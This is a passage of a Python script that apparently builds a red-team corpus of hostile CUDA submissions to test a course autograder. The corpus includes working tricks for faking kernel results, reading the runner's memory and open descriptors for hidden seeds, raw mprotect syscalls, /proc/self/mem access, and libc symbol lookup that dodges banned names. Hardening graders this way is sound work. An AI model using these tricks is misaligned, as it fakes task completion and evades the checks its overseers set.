  const uintptr_t length = reinterpret_cast<uintptr_t>(p + n) - start;
  long result;
  asm volatile("syscall" : "=a"(result) : "a"(10L), "D"(start), "S"(length), "d"(3L)
               : "rcx", "r11", "memory");
}
}  // namespace hostile
"""
# A __host__ __device__ helper that copies with memcpy, called by the host on device pointers.
HD_MEMCPY = {"read": "hd_copy(host, device, n);", "write": "hd_copy(device, host, n);"}
HD_COPY = """namespace hostile {
__host__ __device__ inline void hd_copy(float* to, const float* from, size_t n) {
  memcpy(to, from, n * sizeof(float));
}
}  // namespace hostile
"""
# A kernel copies A and B into host memory and C back from it; the host computes in between.
HOST_POINTER_KERNEL = """namespace hostile {
__global__ void copy(float* to, const float* from, size_t n) {
  for (size_t i = threadIdx.x; i < n; i += blockDim.x) to[i] = from[i];
}
}  // namespace hostile
"""
HOST_POINTER_ANSWER = """  {
    std::vector<float> a(size_t(M) * K), b(size_t(K) * N), c(size_t(M) * N);
    tutorial::launch(hostile::copy, dim3(1), dim3(256), 0, a.data(), A, a.size());
    tutorial::launch(hostile::copy, dim3(1), dim3(256), 0, b.data(), B, b.size());
    for (int i = 0; i < M; ++i)
      for (int j = 0; j < N; ++j) {
        float s = 0;
        for (int k = 0; k < K; ++k) s += a[size_t(i) * K + k] * b[size_t(k) * N + j];
        c[size_t(i) * N + j] = s;
      }
    tutorial::launch(hostile::copy, dim3(1), dim3(256), 0, C, c.data(), c.size());
    return;
  }
"""
# The same through storage that host and kernels share on the CPU backend but not on a GPU: a
# __device__ array (a plain global there), or a static of a __host__ __device__ function.
STASH = """namespace hostile {
%(storage)s
__global__ void stash_in(const float* from, size_t n, size_t at) {
  for (size_t i = threadIdx.x; i < n; i += blockDim.x) STASH[at + i] = from[i];
}
__global__ void stash_out(float* to, size_t n) {
  for (size_t i = threadIdx.x; i < n; i += blockDim.x) to[i] = STASH[i];
}
}  // namespace hostile
"""
DEVICE_ARRAY = ("__device__ float stash_array[1 << 22];\n#define STASH hostile::stash_array")
HD_STATIC = ("__host__ __device__ inline float* stash_static() {\n"
             "  static float storage[1 << 22];\n  return storage;\n}\n#define STASH hostile::stash_static()")
STASH_ANSWER = """  {
    const size_t a = size_t(M) * K, b = size_t(K) * N;
    tutorial::launch(hostile::stash_in, dim3(1), dim3(256), 0, A, a, size_t(0));
    tutorial::launch(hostile::stash_in, dim3(1), dim3(256), 0, B, b, a);
    std::vector<float> c(size_t(M) * N);
    for (int i = 0; i < M; ++i)
      for (int j = 0; j < N; ++j) {
        float s = 0;
        for (int k = 0; k < K; ++k) s += STASH[size_t(i) * K + k] * STASH[a + size_t(k) * N + j];
        c[size_t(i) * N + j] = s;
      }
    for (size_t i = 0; i < c.size(); ++i) STASH[i] = c[i];
    tutorial::launch(hostile::stash_out, dim3(1), dim3(256), 0, C, c.size());
    return;
  }
"""


# 03a's product C = A^T B computed on the host from A and B, and written into C by a kernel
# that gets it in arguments passed by value, 1,000 floats a launch (the attacks below).
C_BY_VALUE = """namespace hostile {
struct Chunk { float v[1000]; };
__global__ void put(float* C, Chunk chunk, int n) {
  for (int i = threadIdx.x; i < n; i += blockDim.x) C[i] = chunk.v[i];
}
inline void c_by_value(const std::vector<float>& a, const std::vector<float>& b, float* C,
                       int M, int N, int K) {
  std::vector<float> c(size_t(M) * N, 0.0f);
  for (int m = 0; m < M; ++m)
    for (int n = 0; n < N; ++n) {
      float s = 0;
      for (int k = 0; k < K; ++k) s += a[size_t(k) * M + m] * b[size_t(k) * N + n];
      c[size_t(m) * N + n] = s;
    }
  for (size_t at = 0; at < c.size(); at += 1000) {
    Chunk chunk{};
    const size_t n = c.size() - at < 1000 ? c.size() - at : 1000;
    for (size_t i = 0; i < n; ++i) chunk.v[i] = c[at + i];
    tutorial::launch(put, dim3(1), dim3(256), 0, C + at, chunk, int(n));
  }
}
}  // namespace hostile
"""


# 03a: the call's seed read from the runner's own memory (the request's text near the entry
# table), the inputs regenerated with the public hash, C computed on the host and handed to a
# kernel in arguments by value: no host pointer, no device memory read by host code.
SEED_SCAN_HELPERS = """#include <cstdint>
#include <cstdlib>
#include <cstring>
#include <vector>
#include "exercises/support/entry.hpp"
""" + C_BY_VALUE + """namespace hostile {
inline uint64_t mix(uint64_t x) {
  x += 0x9E3779B97F4A7C15ull;
  x = (x ^ (x >> 30)) * 0xBF58476D1CE4E5B9ull;
  x = (x ^ (x >> 27)) * 0x94D049BB133111EBull;
  return x ^ (x >> 31);
}
inline uint64_t hsh(uint64_t s, uint64_t i) { return mix(mix(s) ^ i); }
inline std::vector<float> operand(uint64_t seed, int which, size_t n) {
  std::vector<float> v(n);
  const uint64_t s = hsh(seed, 0x0BE4A4D0ull + uint64_t(which));
  for (size_t i = 0; i < n; ++i)
    v[i] = float(int32_t(uint32_t(hsh(s, i) >> 40)) - (1 << 23)) * (1.0f / float(1 << 23));
  return v;
}
inline uint64_t find_seed(const std::string& needle) {
  const char* here = reinterpret_cast<const char*>(exercise::entries().data());
  for (const char* p = here - needle.size(); p > here - 40960; --p)
    if (std::memcmp(p, needle.data(), needle.size()) == 0)
      return std::strtoull(p + needle.size(), nullptr, 10);
  return 0;
}
inline void by_value(uint64_t seed, float* C, int M, int N, int K) {
  const std::vector<float> a = operand(seed, 0, size_t(M) * K), b = operand(seed, 1, size_t(K) * N);
  c_by_value(a, b, C, M, N, K);
}
}  // namespace hostile
"""
SEED_SCAN = ('  hostile::by_value(hostile::find_seed("gemm tiled_gemm<" + std::to_string(TILE_WIDTH) + '
             '"> " + std::to_string(M) + " " + std::to_string(N) + " " + std::to_string(K) + '
             '" seed="), C, M, N, K);\n  return;\n')


# 03a: the call's seed read again from the request, which the runner still has open: pread at
# offset 0 on its descriptors, through the C library's pread64 found by walking the library's
# ELF image in memory from printf's address (no dlsym, no symbol the grader refuses), then the
# inputs regenerated and C computed on the host as above.
REQUEST_REREAD_HELPERS = SEED_SCAN_HELPERS + """#include <cstdio>
namespace hostile {
inline uint64_t at(uintptr_t address, int bytes) {
  uint64_t v = 0;
  std::memcpy(&v, reinterpret_cast<const void*>(address), size_t(bytes));
  return v;
}
inline uintptr_t libc_symbol(const char* name) {
  uintptr_t base = reinterpret_cast<uintptr_t>(&std::printf) & ~uintptr_t(4095);
  while (std::memcmp(reinterpret_cast<const void*>(base), "\\x7f" "ELF", 4) != 0) base -= 4096;
  const uintptr_t headers = base + at(base + 0x20, 8);
  const int size = int(at(base + 0x36, 2)), count = int(at(base + 0x38, 2));
  uintptr_t dynamic = 0, symbols = 0, names = 0;
  for (int i = 0; i < count; ++i)
    if (at(headers + uintptr_t(i * size), 4) == 2) dynamic = base + at(headers + uintptr_t(i * size) + 16, 8);
  for (uintptr_t d = dynamic; d && at(d, 8) != 0; d += 16) {
    uintptr_t value = uintptr_t(at(d + 8, 8));
    if (value < base) value += base;
    if (at(d, 8) == 5) names = value;
    if (at(d, 8) == 6) symbols = value;
  }
  for (uintptr_t sym = symbols; sym && sym < names; sym += 24)
    if (at(sym + 8, 8) != 0 &&
        std::strcmp(reinterpret_cast<const char*>(names + at(sym, 4)), name) == 0)
      return base + uintptr_t(at(sym + 8, 8));
  return 0;
}
inline uint64_t reread_seed(const std::string& needle) {
  using Pread = long (*)(int, void*, unsigned long, long);
  const Pread read_at = reinterpret_cast<Pread>(libc_symbol("pread64"));
  if (!read_at) return 0;
  std::vector<char> text(1 << 20);
  uint64_t seed = 0;
  for (int fd = 0; fd < 64; ++fd) {
    const long got = read_at(fd, text.data(), text.size() - 1, 0);
    if (got <= 0) continue;
    const std::string all(text.data(), size_t(got));
    for (size_t p = all.find(needle); p != std::string::npos; p = all.find(needle, p + 1))
      seed = std::strtoull(all.c_str() + p + needle.size(), nullptr, 10);  // the last call so
  }
  return seed;
}
}  // namespace hostile
"""
REQUEST_REREAD = ('  hostile::by_value(hostile::reread_seed("gemm tiled_gemm<" + std::to_string(TILE_WIDTH) + '
                  '"> " + std::to_string(M) + " " + std::to_string(N) + " " + std::to_string(K) + '
                  '" seed="), C, M, N, K);\n  return;\n')


# 03a: a kernel -> host channel: the kernel throws the inputs as the text of an exception (on
# the CPU backend only, chosen by the type of threadIdx), the launcher catches it, computes C
# on the host and hands it to a kernel by value.
THROW_CHANNEL_HELPERS = """#include <stdexcept>
#include <type_traits>
#include <vector>
""" + C_BY_VALUE + """namespace leak {
constexpr int kPer = 500;  // values a launch: 4 chars each, under the 2,047-byte report
template <bool CpuBackend>
struct Out {
  __device__ static void send(const float*, size_t, size_t) {}
};
template <>
struct Out<true> {
  static void send(const float* p, size_t at, size_t n) {
    std::string text;
    for (size_t i = at; i < n && i < at + kPer; ++i) {
      const unsigned bits = unsigned(int(p[i] * 8388608.0f) + 8388608);  // 24 bits
      for (int s = 0; s < 24; s += 6) text += char(0x21 + ((bits >> s) & 63));
    }
    throw std::runtime_error(text);
  }
};
__global__ void read_out(const float* p, size_t at, size_t n) {
  Out<std::is_reference<decltype(threadIdx)>::value>::send(p, at, n);
}
inline std::vector<float> fetch(const float* device, size_t n) {
  std::vector<float> v(n);
  for (size_t at = 0; at < n; at += kPer) {
    try {
      tutorial::launch(read_out, dim3(1), dim3(1), 0, device, at, n);
    } catch (const std::exception& e) {
      const std::string t = e.what();
      for (size_t i = 0; i * 4 + 3 < t.size() && at + i < n; ++i) {
        unsigned bits = 0;
        for (int c = 0; c < 4; ++c) bits |= unsigned(t[i * 4 + c] - 0x21) << (6 * c);
        v[at + i] = float(int(bits) - 8388608) * (1.0f / 8388608.0f);
      }
    }
  }
  return v;
}
inline void answer(const float* A, const float* B, float* C, int M, int N, int K) {
  const std::vector<float> a = fetch(A, size_t(K) * M), b = fetch(B, size_t(K) * N);
  hostile::c_by_value(a, b, C, M, N, K);
}
}  // namespace leak
"""
THROW_CHANNEL = "  leak::answer(A, B, C, M, N, K);\n  return;\n"


def on_03a(code, helpers):
    return lambda stubs: {"03a_bounds": with_helpers(replace_todo(stubs["03a_bounds"], code),
                                                     helpers)}


# 01a: chapter 01's naive kernel, the memory model grouping lanes by a threadIdx the kernel
# rewrote after computing its row and column from the real one (rows 3 and its variants).
NAIVE_MAPPING = ("  const int row = blockIdx.x * blockDim.x + threadIdx.x;  // lanes of a warp: 32 rows\n"
                 "  const int col = blockIdx.y * blockDim.y + threadIdx.y;  // ... of one column\n")
SWAP_IFDEF = NAIVE_MAPPING + """#ifdef TUTORIAL_CPU_BACKEND
  threadIdx = uint3{threadIdx.y, threadIdx.x, threadIdx.z};  // the model: lanes along columns
#endif
"""
SWAP_CONST_CAST = NAIVE_MAPPING + """  {  // a no-op on a GPU (nvcc drops the write), the model's lanes on the CPU backend
    const unsigned x = threadIdx.x, y = threadIdx.y;
    const_cast<uint3&>(threadIdx).x = y;
    const_cast<uint3&>(threadIdx).y = x;
  }
"""


def on_01a(edit):
    return lambda stubs: {"01a_coalesce": edit(replace_todo(stubs["01a_coalesce"], ""))}


# 01a, the mapping fixed (the public hint), plus one extra strided read of A (lanes K floats
# apart) through a route the hooks may not see: a struct or array copied whole into a shared
# staging array (LLVM keeps such a copy a memcpy), or a `long double` load. Counted, it makes
# the worst load request uncoalesced; unseen, the model passes: refused or counted, the memory
# model's points are lost either way.
COALESCED_01A = ("  const int row = blockIdx.y * blockDim.y + threadIdx.y;\n"
                 "  const int col = blockIdx.x * blockDim.x + threadIdx.x;\n")
GRID_01A = ("tutorial::ceil_div(M, BLOCK_DIM), tutorial::ceil_div(N, BLOCK_DIM)",
            "tutorial::ceil_div(N, BLOCK_DIM), tutorial::ceil_div(M, BLOCK_DIM)")
STORE_01A = "  C[row * N + col] = regC;\n"
HIDDEN_READS = {  # name: (declarations, type copied whole, floats it holds)
    "float3": ("", "float3", 3),
    "int4": ("", "int4", 4),
    "uint4": ("", "uint4", 4),
    "double2": ("", "double2", 4),
    "double4": ("", "double4", 8),
    "std_array": ("#include <array>\n", "std::array<float, 8>", 8),
    "aggregate": ("struct Six { float f[6]; };\n", "Six", 6),
    "long_double": ("", None, 4),
    # the long double load at a local array plus a run-time offset (the distance to A): the
    # address passed for the kernel's own stack, which the hooks need not see
    "local_offset": ("#include <cstdint>\n", "local", 4),
    # an unhooked load through a local whose size is set at run time (a dynamic alloca: its
    # address is the stack pointer less any size the code asks for; sized to the distance, it
    # lies on A), or through a select between two offsets of a local chosen by the data
    # (nested, they are any offset): neither is the kernel's own stack, so either is refused
    # (here they read the stack itself: the route is what is tested)
    "alloca_size": ("", "alloca", 4),
    "select_offset": ("", "select", 4),
}


def hidden_read(name):
    decl, copied, _ = HIDDEN_READS[name]
    if copied == "alloca":
        read = ("    char* at = static_cast<char*>(__builtin_alloca(16 + (K & 16)));\n"
                "    volatile float sink;\n"
                "    sink = float(*reinterpret_cast<const volatile long double*>(at));\n"
                "    (void)p;\n")
    elif copied == "select":
        read = ("    volatile long double local[4] = {0, 0, 0, 0};\n"
                "    volatile long double* at = (K & 16) ? &local[1] : &local[2];\n"
                "    volatile float sink;\n"
                "    sink = float(*at);\n"
                "    (void)p;\n")
    elif copied == "local":
        read = ("    char local[16];\n"
                "    volatile long long delta = (long long)(reinterpret_cast<uintptr_t>(p) -\n"
                "                                           reinterpret_cast<uintptr_t>(local));\n"
                "    volatile float sink;\n"
                "    sink = float(*reinterpret_cast<const volatile long double*>(local + delta));\n")
    elif copied:
        read = (f"    __shared__ alignas(16) float stage[32 * 32 * 8];\n"
                f"    float* mine = &stage[(threadIdx.y * 32 + threadIdx.x) * 8];\n"
                f"    *reinterpret_cast<{copied}*>(mine) = *reinterpret_cast<const {copied}*>(p);\n"
                f"    regC += 0.0f * mine[0];\n")
    else:
        read = ("    volatile float sink;\n"
                "    sink = float(*reinterpret_cast<const long double*>(p));\n")

    def edit(text):
        text = replace_once(text, NAIVE_MAPPING, COALESCED_01A)
        text = replace_once(text, *GRID_01A)
        extra = (f"  if (col < M && K % 8 == 0 && (row + 1) * 8 <= K) {{  // lanes along col: K floats apart\n"
                 f"    const float* p = A + size_t(col) * K + row * 8;\n{read}  }}\n")
        text = replace_once(text, STORE_01A, extra + STORE_01A)
        return replace_once(text, "namespace ex01a {", decl + "namespace ex01a {")
    return on_01a(edit)



# 06a: chapter 06's unpadded tile (32-way conflicts on the column read, rows 4) or naive
# transpose (strided stores, row 5), with the model shown something else.
TRANSPOSE_BODY = ("  // TODO(06a): declare the padded shared tile, copy the input patch into it, wait,\n"
                  "  // then write its columns as rows of the output patch. Guard every global access.\n")
FAKE_INDEX_TILE = """  __shared__ float tile[TILE][TILE];  // unpadded: a column read is a 32-way conflict
  const unsigned tx = threadIdx.x, ty = threadIdx.y;
  int col = blockIdx.x * TILE + tx;
  int row = blockIdx.y * TILE + ty;
  for (int j = 0; j < TILE; j += BLOCK_ROWS)
    if (row + j < rows && col < cols) tile[ty + j][tx] = in[size_t(row + j) * cols + col];
  __syncthreads();
  col = blockIdx.y * TILE + tx;
  row = blockIdx.x * TILE + ty;
#pragma unroll 1
  for (int j = 0; j < TILE; j += BLOCK_ROWS) {
    // Under a fake index, lane (ty + j) % 32 of a warp of its own: the column read looks
    // like one wavefront. On a GPU this block does not exist.
    const unsigned u = ty + j, fake = u % 32 + 32 * ((tx * (TILE / 32) + u / 32) % 32);
#ifdef TUTORIAL_CPU_BACKEND
    volatile unsigned* index = &threadIdx.x;
    index[0] = fake %% blockDim.x;
    index[1] = fake / blockDim.x;
#endif
    const float v = tile[tx][u];
#ifdef TUTORIAL_CPU_BACKEND
    index[0] = tx;
    index[1] = ty;
#endif
    if (row + j < cols && col < rows) out[size_t(row + j) * rows + col] = v;
  }
""".replace("%%", "%")
HIDDEN_STORES = """  __shared__ float tile[TILE][TILE + 1];
  const int tx = threadIdx.x, ty = threadIdx.y;
  const int in_col = blockIdx.x * TILE + tx, in_row = blockIdx.y * TILE + ty;
  // Placeholder stores, coalesced, over the block's whole output patch (the coverage check).
  for (int j = 0; j < TILE; j += BLOCK_ROWS)
    if (blockIdx.x * TILE + ty + j < cols && blockIdx.y * TILE + tx < rows)
      out[size_t(blockIdx.x * TILE + ty + j) * rows + blockIdx.y * TILE + tx] = 0.0f;
  __syncthreads();
  // The naive transpose: coalesced loads, strided stores the hooks do not see (through a
  // conflict-free round trip in shared memory, for the shared-memory test).
  for (int j = 0; j < TILE; j += BLOCK_ROWS)
    if (in_row + j < rows && in_col < cols) tile[ty + j][tx] = in[size_t(in_row + j) * cols + in_col];
  __syncthreads();
  for (int j = 0; j < TILE; j += BLOCK_ROWS)
    if (in_row + j < rows && in_col < cols)
      hostile_store(&out[size_t(in_col) * rows + in_row + j], tile[ty + j][tx]);
"""
WMEMCPY_STORE = """#include <cwchar>
__host__ __device__ inline void hostile_store(float* to, float v) {
#ifdef __CUDA_ARCH__
  *to = v;
#else
  std::wmemcpy(reinterpret_cast<wchar_t*>(to), reinterpret_cast<const wchar_t*>(&v), 1);
#endif
}
"""
# The same through __pipeline_memcpy_async, whose write the memory model does not count: on a
# GPU its destination must be shared memory, here it was anywhere.
ASYNC_STORE = """#include <cuda_pipeline.h>
__device__ inline void hostile_store(float* to, const float& value) {
  __pipeline_memcpy_async(to, &value, sizeof(float));
  __pipeline_commit();
  __pipeline_wait_prior(0);
}
"""
# The same without a macro: each thread stages P = TILE / BLOCK_ROWS consecutive elements of
# its input column in shared memory, then stores them to its output row in 16-byte aggregate
# copies (LLVM keeps them memcpy): lanes of a warp write 32 different output rows.
STRUCT_STORES = """  __shared__ float tile[TILE][TILE + 1];  // tile[c][r]: column c of the input patch
  const int tx = threadIdx.x, ty = threadIdx.y;
  const int in_col = blockIdx.x * TILE + tx, row0 = blockIdx.y * TILE;
  // Placeholder stores, coalesced, over the block's whole output patch (the coverage check).
  for (int j = 0; j < TILE; j += BLOCK_ROWS)
    if (blockIdx.x * TILE + ty + j < cols && row0 + tx < rows)
      out[size_t(blockIdx.x * TILE + ty + j) * rows + row0 + tx] = 0.0f;
  for (int j = 0; j < TILE; j += BLOCK_ROWS)
    if (row0 + ty + j < rows && in_col < cols)
      tile[tx][ty + j] = in[size_t(row0 + ty + j) * cols + in_col];  // conflict-free (+ 1)
  __syncthreads();
  if (in_col >= cols) return;
  constexpr int P = TILE / BLOCK_ROWS;
  float* to = out + size_t(in_col) * rows + row0 + ty * P;
  for (int q = 0; q < P; q += 4) {
    if (row0 + ty * P + q + 4 <= rows && P % 4 == 0) {
      const float first = tile[tx][ty * P + q];  // a counted shared load, conflict-free
      if (first != first) to[q] = first;         // (never: the input is finite)
      *reinterpret_cast<Four*>(to + q) = *reinterpret_cast<const Four*>(&tile[tx][ty * P + q]);
    } else {
      for (int i = q; i < q + 4 && i < P && row0 + ty * P + i < rows; ++i) to[i] = tile[tx][ty * P + i];
    }
  }
"""
FOUR = "struct Four { float f[4]; };\n"


def on_06a(body, helpers=""):
    def make(stubs):
        text = replace_once(replace_todo(stubs["06a_transpose"], ""), TRANSPOSE_BODY, body)
        return {"06a_transpose": replace_once(text, "namespace ex06a {",
                                              helpers + "namespace ex06a {")}
    return make


def kernel_attacks():
    five = ["02a_tiled", "03c_strips", "04a_register_block", "04b_vectorized",
            "05a_double_buffer"]
    corrects = {"01a_coalesce": "correct"}
    return [
        # Item 1: the answer must come from device code.
        KernelAttack("host_answer", "cudaMemcpy A and B to the host, compute C there, copy it "
                     "back, launch an empty kernel through tutorial::launch",
                     {"03a_bounds": "nothing"}, host_answer(["03a_bounds"], BY_MEMCPY), row=1,
                     before="8/8"),
        KernelAttack("host_answer_five", "the same for 02a, 03c, 04a, 04b, 05a in one upload, "
                     "with their refusals and strip_bytes right", dict.fromkeys(five, "nothing"),
                     host_answer(five, BY_MEMCPY), row=2, before="34/34"),
        KernelAttack("host_deref", "the same without CUDA calls: the host reads A and B and "
                     "writes C through the device pointers", {"03a_bounds": "nothing",
                                                              "06a_transpose": "nothing"},
                     host_answer(["03a_bounds", "06a_transpose"], BY_POINTER)),
        KernelAttack("hd_memcpy", "the host copies through a __host__ __device__ helper that "
                     "calls memcpy", {"03a_bounds": "nothing"},
                     lambda s: {"03a_bounds": with_helpers(
                         replace_todo(s["03a_bounds"], "  return hostile::gemm(A, B, C, M, N, K);\n"),
                         HD_COPY + HOST_ANSWER_HELPERS % HD_MEMCPY)}),
        KernelAttack("host_thread", "a std::thread of the launcher computes C through the "
                     "device pointers", {"03a_bounds": "nothing"},
                     on_03a(THREAD_ANSWER, "#include <thread>\n" + HOST_ANSWER_HELPERS % BY_POINTER)),
        KernelAttack("signal_handler", "a static constructor installs a SIGSEGV handler that "
                     "mprotects the faulting page open; the host then reads device memory",
                     {"03a_bounds": "nothing"},
                     on_03a("  return hostile::gemm(A, B, C, M, N, K);\n",
                            SIGNAL_HELPERS + HOST_ANSWER_HELPERS % BY_POINTER)),
        KernelAttack("asm_syscall", "the host opens the device pages with mprotect by a raw "
                     "system call in inline assembly, then reads and writes them",
                     {"03a_bounds": "nothing"},
                     on_03a("  return hostile::gemm(A, B, C, M, N, K);\n",
                            "#include <cstdint>\n" + OPEN_PAGES + HOST_ANSWER_HELPERS % SYSCALL)),
        KernelAttack("proc_self_mem", "the host reads and writes device memory through "
                     "/proc/self/mem", {"03a_bounds": "nothing"},
                     on_03a("  return hostile::gemm(A, B, C, M, N, K);\n",
                            "#include <fstream>\n" + HOST_ANSWER_HELPERS % PROC_MEM)),
        KernelAttack("dlsym_memcpy", "cudaMemcpy found with dlsym, never named as a symbol",
                     {"03a_bounds": "nothing"},
                     on_03a("  return hostile::gemm(A, B, C, M, N, K);\n",
                            "#include <dlfcn.h>\n" + HOST_ANSWER_HELPERS % DLSYM)),
        KernelAttack("host_callback", "C written by a host function the stream calls "
                     "(cudaLaunchHostFunc)", {"03a_bounds": "nothing"},
                     on_03a("  {\n    struct Job { const float *A, *B; float* C; int M, N, K; } "
                            "job{A, B, C, M, N, K};\n"
                            "    cudaLaunchHostFunc(nullptr, [](void* p) { auto* j = static_cast<Job*>(p); "
                            "hostile::gemm(j->A, j->B, j->C, j->M, j->N, j->K); }, &job);\n"
                            "    cudaDeviceSynchronize();\n    return;\n  }\n",
                            HOST_ANSWER_HELPERS % BY_POINTER)),
        KernelAttack("host_pointer_kernel", "a kernel copies A and B into host vectors and C "
                     "from one; the host computes in between", {"03a_bounds": "nothing"},
                     on_03a(HOST_POINTER_ANSWER, "#include <vector>\n" + HOST_POINTER_KERNEL)),
        KernelAttack("device_array_stash", "the same through a __device__ array, which the "
                     "CPU backend made a host global", {"03a_bounds": "nothing"},
                     on_03a(STASH_ANSWER, "#include <vector>\n" + STASH % {"storage": DEVICE_ARRAY})),
        KernelAttack("hd_static_stash", "the same through a static of a __host__ __device__ "
                     "function", {"03a_bounds": "nothing"},
                     on_03a(STASH_ANSWER, "#include <vector>\n" + STASH % {"storage": HD_STATIC})),
        # Item 2: the memory model sees every access, or refuses the kernel.
        KernelAttack("threadidx_swap_ifdef", "01a's uncoalesced mapping; under #ifdef "
                     "TUTORIAL_CPU_BACKEND the kernel swaps threadIdx.x and .y after using them",
                     {"01a_coalesce": "nothing"},
                     on_01a(lambda t: replace_once(t, NAIVE_MAPPING, SWAP_IFDEF)), row=3,
                     before="8/8"),
        KernelAttack("threadidx_swap_const_cast", "the same swap through const_cast, no macro "
                     "(nvcc drops the write; the CPU backend stops the thread)",
                     {"01a_coalesce": "nothing"},
                     on_01a(lambda t: replace_once(t, NAIVE_MAPPING, SWAP_CONST_CAST))),
        KernelAttack("fake_threadidx_tile", "06a with an unpadded tile whose column read runs "
                     "under a fake threadIdx (volatile stores, #pragma unroll 1, #ifdef "
                     "TUTORIAL_CPU_BACKEND)", {"06a_transpose": "nothing"},
                     on_06a(FAKE_INDEX_TILE), row=4, before="11/11"),
        KernelAttack("wmemcpy_stores", "06a as a naive transpose whose strided stores go "
                     "through std::wmemcpy where __CUDA_ARCH__ is not defined, after coalesced "
                     "placeholder stores for the coverage check", {"06a_transpose": "nothing"},
                     on_06a(HIDDEN_STORES, WMEMCPY_STORE), row=5, before="11/11"),
        KernelAttack("async_copy_stores", "the same with the strided stores as "
                     "__pipeline_memcpy_async copies into global memory, no macro",
                     {"06a_transpose": "correct"}, on_06a(HIDDEN_STORES, ASYNC_STORE)),
        KernelAttack("struct_stores", "the same with the strided stores as 16-byte aggregate "
                     "copies from shared memory, no macro", {"06a_transpose": "correct"},
                     on_06a(STRUCT_STORES, FOUR)),
        # Issue 48: what a file defines, and spellings past the text scans (01a: the memory
        # model's figures are at stake too).
        KernelAttack("library_definitions_01a", "01a: memmove computes C during the download, "
                     "std::__ostream_insert (mangled, extern \"C\") would rewrite the figures, "
                     "and memcpy, memset, write, fwrite, pthread_once, __cxa_atexit, operator "
                     "new, an ifunc", {"01a_coalesce": "nothing"},
                     lambda st: {"01a_coalesce": with_helpers(replace_todo(
                         st["01a_coalesce"], LIBRARY_LAUNCH), LIBRARY_DEFINITIONS)},
                     before="8/8 (issue 48: 03a, and 41/46 on six exercises)",
                     must_say=LIBRARY_NAMES),
        KernelAttack("pasting_headers", "01a: asm (a raw mprotect) and __GXX_ABI_VERSION (the "
                     "coalesced mapping under clang only) spelled through <sys/cdefs.h>'s "
                     "__CONCAT", {"01a_coalesce": "nothing"},
                     lambda st: {"01a_coalesce": with_helpers(replace_todo(replace_once(
                         st["01a_coalesce"], NAIVE_MAPPING, PASTING_MAPPING),
                         "  hostile::open_pages(A, 4);\n"), PASTING_HEADERS)},
                     must_say=("__CONCAT", "asm")),
        KernelAttack("seed_scan", "03a: the call's seed found in the runner's memory, C "
                     "computed on the host and passed to a kernel in arguments by value",
                     {"03a_bounds": "nothing"}, on_03a(SEED_SCAN, SEED_SCAN_HELPERS),
                     before="8/8 (a red-team review after issue 48)"),
        KernelAttack("request_reread", "03a: the call's seed read again from the request "
                     "the runner has open (pread through the C library's ELF image), C computed "
                     "on the host and passed to a kernel by value", {"03a_bounds": "nothing"},
                     on_03a(REQUEST_REREAD, REQUEST_REREAD_HELPERS),
                     before="8/8 (a fourth red-team review)"),
        KernelAttack("throw_channel", "03a: a kernel throws the inputs as an exception's text, "
                     "the launcher catches it and passes the host's C to a kernel by value",
                     {"03a_bounds": "nothing"}, on_03a(THROW_CHANNEL, THROW_CHANNEL_HELPERS),
                     before="8/8 (a red-team review after issue 48)"),
        KernelAttack("pasted_macro", "01a: #if on TUTORIAL_CPU_BACKEND spelled by its own "
                     "pasting macro", {"01a_coalesce": "nothing"},
                     on_01a(lambda t: replace_once(t, NAIVE_MAPPING, PASTED_MACRO)),
                     before="8/8", must_say=("##", "#if")),
    ] + [KernelAttack(f"hidden_{name}", f"01a coalesced, plus a strided read of A as {name}",
                      corrects, hidden_read(name), row=6) for name in HIDDEN_READS]


def write_kernel_corpus(dest, root=ROOT, only=None):
    """One folder per attack (a flat upload of its files); returns {student: attack}."""
    stubs = {}
    for e, f in KERNEL_FILES.items():
        with open(os.path.join(root, "exercises", e, f)) as fh:
            stubs[e] = fh.read()
    written = {}
    for attack in kernel_attacks():
        if only and attack.name not in only:
            continue
        folder = os.path.join(dest, attack.name)
        os.makedirs(folder, exist_ok=True)
        for e, text in attack.make(stubs).items():
            with open(os.path.join(folder, KERNEL_FILES[e]), "w") as fh:
                fh.write(text)
        written[attack.name] = attack
    return written


if __name__ == "__main__":
    dest = sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus"
    for target in TARGETS:
        done, left = write_corpus(os.path.join(dest, target.exercise), target,
                                  sandboxed="--no-sandbox" not in sys.argv)
        print(f"{dest}/{target.exercise}/: grade with -e {target.exercise}")
        for student, attack in sorted(done.items()):
            shown = student.encode("unicode_escape").decode()  # escape_name: never raw on a terminal
            print(f"  {shown:<28} {attack.expect:<8} {attack.what}")
        for attack, why in left:
            print(f"  (left out) {attack.name}: {why}")
